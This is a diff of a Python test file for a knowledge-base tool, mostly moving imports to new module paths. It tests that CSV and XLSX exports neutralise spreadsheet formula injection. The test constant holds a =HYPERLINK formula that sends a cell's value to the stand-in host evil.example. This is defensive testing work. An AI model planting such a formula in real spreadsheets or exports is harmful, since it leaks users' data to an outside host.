@@ -24,16 +24,16 @@ import yaml
 from fixtures_kb import kb_settings  # noqa: F401
 from typer.testing import CliRunner
 
-from kb.cli import app
+from kb.cli.main import app
+from kb.corpus.manifest import load_manifest
 from kb.errors import BadImportFile, CodebookImportError, CorpusMissing
-from kb.exporting import export
-from kb.ingest import add_files
-from kb.kbase import get_kb
-from kb.manifest import load_manifest
-from kb.qdc_import import import_codebook
-from kb.refiqda import NS_CODEBOOK, NS_PROJECT, read_qdpx
-from kb.safezip import ZipLimits
-from kb.spreadsheet import neutralise, read_export, restore
+from kb.exchange.codebook_import import import_codebook
+from kb.exchange.export import export
+from kb.exchange.ingest import add_files
+from kb.exchange.refiqda import NS_CODEBOOK, NS_PROJECT, read_qdpx
+from kb.exchange.safezip import ZipLimits
+from kb.exchange.spreadsheet import neutralise, read_export, restore
+from kb.store.kbase import get_kb
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
 CASE = dict(
@@ -85,7 +85,7 @@ def test_crafted_qdc_cannot_rewrite_the_codebook(tmp_path, kb_settings):  # noqa
 
 
 def test_merge_refuses_anything_but_appended_entries(tmp_path, kb_settings):  # noqa: F811
-    from kb.qdc_import import merged_yaml
+    from kb.exchange.codebook_import import merged_yaml
 
     text = _codebook(tmp_path, kb_settings).read_text(encoding="utf-8")
     start = text.index("\ncategories:") + 1  # the last top-level key of the file
@@ -235,7 +235,7 @@ def test_neutralise_round_trips(text):
 @pytest.fixture(scope="module")
 def evil_kb(kb_settings, tmp_path_factory):  # noqa: F811
     """A copy of the small KB with a review by a coder named like a formula."""
-    from kb.reviews import open_store
+    from kb.review.decisions import open_store
 
     root = tmp_path_factory.mktemp("evil")
     shutil.copytree(kb_settings.data_dir, root / "data")
@@ -270,7 +270,7 @@ def test_csv_and_xlsx_exports_are_neutralised(evil_kb, tmp_path):
 
 
 def test_csv_bytes_neutralises():
-    from kb.spreadsheet import csv_bytes
+    from kb.exchange.spreadsheet import csv_bytes
 
     data = csv_bytes(pd.DataFrame({"text": [EVIL, "-1", "보통"]}), bom=False).decode("utf-8")
     assert data.splitlines()[1:] == ['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""클릭"")"', "'-1", "보통"]
